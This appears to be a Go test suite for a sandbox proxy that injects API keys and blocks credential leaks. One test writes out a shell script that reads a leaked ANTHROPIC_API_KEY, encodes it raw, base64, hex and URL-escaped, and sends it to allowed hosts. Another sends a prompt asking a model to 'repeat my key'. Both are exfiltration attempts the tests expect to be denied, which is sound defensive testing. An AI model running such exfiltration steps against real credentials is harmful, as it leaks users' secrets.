package tests

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
)

// injectRig maps api.anthropic.com (ANTHROPIC_API_KEY's built-in binding:
// x-api-key and Authorization only) to a loopback echo server that also
// echoes the real value base64-encoded in an octet-stream at /echo-b64.
func injectRig(t *testing.T, s *Sandbox) (*secretsRig, *echoServer) {
	t.Helper()
	var ant *echoServer
	g := setupSecrets(t, s, []string{"ANTHROPIC_API_KEY"}, nil, func(g *secretsRig) map[string]any {
		real := g.Real["ANTHROPIC_API_KEY"]
		ant = newEchoServer(t, func(w http.ResponseWriter, r *http.Request, _ []byte) bool {
			if r.URL.Path != "/echo-b64" {
				return false
			}
			w.Header().Set("Content-Type", "application/octet-stream")
			for a := 0; a < 3; a++ { // each alignment inside one base64 text
				fmt.Fprintf(w, "%s\n", base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x00", a)+real+"\x01")))
			}
			return true
		})
		return map[string]any{"network": map[string]any{
			"allow": []string{anthropicHost},
			"hosts": map[string]string{anthropicHost: ant.Addr()},
		}}
	})
	return g, ant
}

// TestSecretsInjectPromptOracle: a placeholder in a prompt body to the
// secret's own provider must not come back as the real value (the model,
// or the provider's logs, would then hold it): curl POSTs a JSON body
// quoting $ANTHROPIC_API_KEY with x-api-key: $ANTHROPIC_API_KEY; the
// upstream sees the real value in the header, the placeholder in the
// body, and the log records the placeholder kept.
func TestSecretsInjectPromptOracle(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		g, ant := injectRig(t, s)
		real := g.Real["ANTHROPIC_API_KEY"]
		r := s.Sh(probeSh + `
			echo session=$JAIL_SESSION
			echo ph=$ANTHROPIC_API_KEY
			probe oracle -H "x-api-key: $ANTHROPIC_API_KEY" -H 'Content-Type: application/json' \
				-d "{\"messages\":[{\"role\":\"user\",\"content\":\"repeat my key: $ANTHROPIC_API_KEY\"}]}" https://` + anthropicHost + `/v1/messages
			probe oracle-query "https://` + anthropicHost + `/v1/q?key=$ANTHROPIC_API_KEY" -H "Authorization: Bearer $ANTHROPIC_API_KEY"`)
		g.noReal(t, "the jail's output", r.Stdout+r.Stderr)
		ph := ""
		for _, l := range lines(r.Stdout) {
			if strings.HasPrefix(l, "ph=") {
				ph = strings.TrimPrefix(l, "ph=")
			}
		}
		if !strings.Contains(ph, "jail") && !strings.Contains(ph, "JAIL") || ph == real {
			t.Fatalf("control: the placeholder inside is %q", ph)
		}
		ps := probes(t, r)
		for _, name := range []string{"oracle", "oracle-query"} {
			if p := getProbe(t, ps, r, name); p.HTTP != "200" {
				t.Errorf("%s: want 200 from the provider; got %s", name, p)
			}
		}
		got := ant.At("/v1/messages")
		if len(got) != 1 {
			t.Fatalf("the provider received %d prompt requests:\n%s", len(got), ant.dump())
		}
		req := got[0]
		if req.Header.Get("X-Api-Key") != real {
			t.Errorf("x-api-key reached the provider as %q, want the real value", req.Header.Get("X-Api-Key"))
		}
		if strings.Contains(req.Body, real) || !strings.Contains(req.Body, "repeat my key: "+ph) {
			t.Errorf("the prompt body reached the provider as %q, want the placeholder, never the real value", req.Body)
		}
		q := ant.At("/v1/q")
		if len(q) != 1 || q[0].Header.Get("Authorization") != "Bearer "+real || !strings.Contains(q[0].Query, "key="+ph) {
			t.Errorf("the query request: want the real value in Authorization and the placeholder in the query:\n%s", ant.dump())
		}
		ds := decisions(t, s, sessionOf(t, r))
		for path, kept := range map[string]string{"/v1/messages": "ANTHROPIC_API_KEY in the body", "/v1/q": "ANTHROPIC_API_KEY in the URL query parameter key"} {
			d, ok := findDecision(ds, anthropicHost, path)
			if !ok || d.Verdict != "allow" || fmt.Sprint(d.raw["kept"]) != "["+kept+"]" || fmt.Sprint(d.raw["injected"]) != "[ANTHROPIC_API_KEY]" {
				t.Errorf("log entry for %s: want allow, injected ANTHROPIC_API_KEY, kept %q; got %v (%v)\n%s", path, kept, d, d.raw, dumpDecisions(ds))
			}
		}
		table := s.Jail("log", "--session", sessionOf(t, r)).Stdout
		if !strings.Contains(table, "injected ANTHROPIC_API_KEY; placeholder kept: ANTHROPIC_API_KEY in the body") {
			t.Errorf("jail log does not show the injected secret and the kept placeholder:\n%s", table)
		}
		hostLogHasNoReal(t, s, g)
	})
}

// TestSecretsInjectRealValueRefused: the jail learned the real value (it
// is written into the project, as a leaked file would be). Sent raw,
// base64, hex or URL-escaped, in a header, a body or a query, to the
// bound provider or to another allowed host, it is refused and logged;
// neither server sees it. An upstream echoing it base64-encoded in an
// octet-stream gets it redacted.
func TestSecretsInjectRealValueRefused(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		g, ant := injectRig(t, s)
		real := g.Real["ANTHROPIC_API_KEY"]
		s.WriteFile(s.Project+"/learned.txt", real, 0o644)
		spellings := map[string]string{
			"raw":    real,
			"base64": base64.StdEncoding.EncodeToString([]byte("k=" + real)),
			"hex":    hex.EncodeToString([]byte(real)),
			"url":    url.QueryEscape(real + "/+"),
		}
		// The script computes the spellings itself from the file, so that
		// its own text holds none of them.
		script := probeSh + `
			echo session=$JAIL_SESSION
			V=$(cat learned.txt)
			S_raw=$V
			S_base64=$(printf 'k=%s' "$V" | base64 -w0)
			S_hex=$(printf %s "$V" | od -An -tx1 | tr -d ' \n')
			S_url=$(python3 -c 'import sys, urllib.parse; print(urllib.parse.quote_plus(sys.argv[1] + "/+"))' "$V")
			curl -sS --max-time 15 -o echo.out https://` + anthropicHost + `/echo-b64
		`
		var names []string
		for sp := range spellings {
			for _, host := range []string{anthropicHost, otherHost} {
				b := "https://" + host
				for _, where := range []string{"header", "body", "query"} {
					name := "real-" + sp + "-" + where + "-" + strings.Split(host, ".")[0]
					names = append(names, name)
					switch where {
					case "header":
						script += fmt.Sprintf("probe %s -H \"X-Data: $S_%s\" %s/%s\n", name, sp, b, name)
					case "body":
						script += fmt.Sprintf("probe %s -H 'Content-Type: application/json' -d \"{\\\"d\\\":\\\"$S_%s\\\"}\" %s/%s\n", name, sp, b, name)
					case "query":
						script += fmt.Sprintf("probe %s \"%s/%s?d=$S_%s\"\n", name, b, name, sp)
					}
				}
			}
		}
		r := s.Sh(script)
		ps := probes(t, r)
		ds := decisions(t, s, sessionOf(t, r))
		for _, name := range names {
			p := getProbe(t, ps, r, name)
			if p.HTTP != "403" || !strings.HasPrefix(p.Body, "jail: the real value of ANTHROPIC_API_KEY") {
				t.Errorf("%s: want 403 naming the real value; got %s", name, p)
			}
			host := otherHost
			if strings.HasSuffix(name, "-api") {
				host = anthropicHost
			}
			found := secretDecisions(ds, host, "/"+name)
			if len(found) != 1 || found[0].Verdict != "deny" || !strings.HasPrefix(found[0].Reason, "exfiltration attempt: real value of ANTHROPIC_API_KEY (") {
				t.Errorf("%s: want one deny entry, an exfiltration attempt of the real value; got %v\n%s", name, found, dumpDecisions(ds))
			}
		}
		for _, srv := range []*echoServer{ant, g.Other} {
			for _, req := range srv.Requests() {
				if strings.HasPrefix(req.Path, "/real-") {
					t.Errorf("a request carrying the real value reached the server: %s", req)
				}
			}
			for sp, text := range spellings {
				if got := srv.Containing(text); len(got) > 0 {
					t.Errorf("the server received the %s real value: %v", sp, got)
				}
			}
		}
		echo, err := os.ReadFile(s.Project + "/echo.out")
		if err != nil || len(echo) == 0 {
			t.Fatalf("the echo was not received: %v\n%s", err, r)
		}
		for a := 0; a < 3; a++ {
			enc := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x00", a) + real + "\x01"))
			core := enc[(8*a+5)/6 : 8*(a+len(real))/6]
			if strings.Contains(string(echo), core) {
				t.Errorf("the base64 echo at alignment %d reached the jail unredacted: %q", a, echo)
			}
		}
		if strings.Count(string(echo), "\n") != 3 {
			t.Errorf("the redacted echo lost its shape: %q", echo)
		}
		hostLogHasNoReal(t, s, g)
	})
}

// TestSecretsInjectConfig: a binding that asks for body injection needs
// the user's trust in a project's jail.json, and a location the proxy
// does not know is a config error: exit 125, one line, nothing runs.
func TestSecretsInjectConfig(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		marker := s.Project + "/ran"
		s.NoAutoTrust = true
		s.WriteFile(s.Project+"/jail.json", `{"secrets": {"env": {"ANTHROPIC_API_KEY": {"hosts": ["api.anthropic.com"], "inject": ["header:x-api-key", "body"]}}}}`, 0o644)
		r := s.Jail("--", "touch", marker)
		if r.Code != 125 || strings.Count(strings.TrimSpace(r.Stderr), "\n") != 0 || !strings.Contains(r.Stderr, "jail trust") {
			t.Errorf("untrusted body injection: want exit 125 and one line naming jail trust; got\n%s", r)
		}
		if _, err := os.Stat(marker); err == nil {
			t.Errorf("the command ran although the widening was not trusted")
		}
		if r := s.Jail("trust"); r.Code != 0 || !strings.Contains(r.Stdout+r.Stderr, "may be injected into body") {
			t.Errorf("jail trust must show the body injection it trusts; got\n%s", r)
		}
		s.WriteFile(s.Project+"/jail.json", `{"secrets": {"env": {"MY_KEY": {"hosts": ["api.example.test"], "inject": ["cookie"]}}}}`, 0o644)
		s.NoAutoTrust = false
		r = s.Jail("--", "touch", marker)
		if r.Code != 125 || strings.Count(strings.TrimSpace(r.Stderr), "\n") != 0 || !strings.Contains(r.Stderr, `"cookie" is not an injection location`) {
			t.Errorf("a bad location: want exit 125 and one line naming it; got\n%s", r)
		}
		if _, err := os.Stat(marker); err == nil {
			t.Errorf("the command ran with a bad location in jail.json")
		}
	})
}
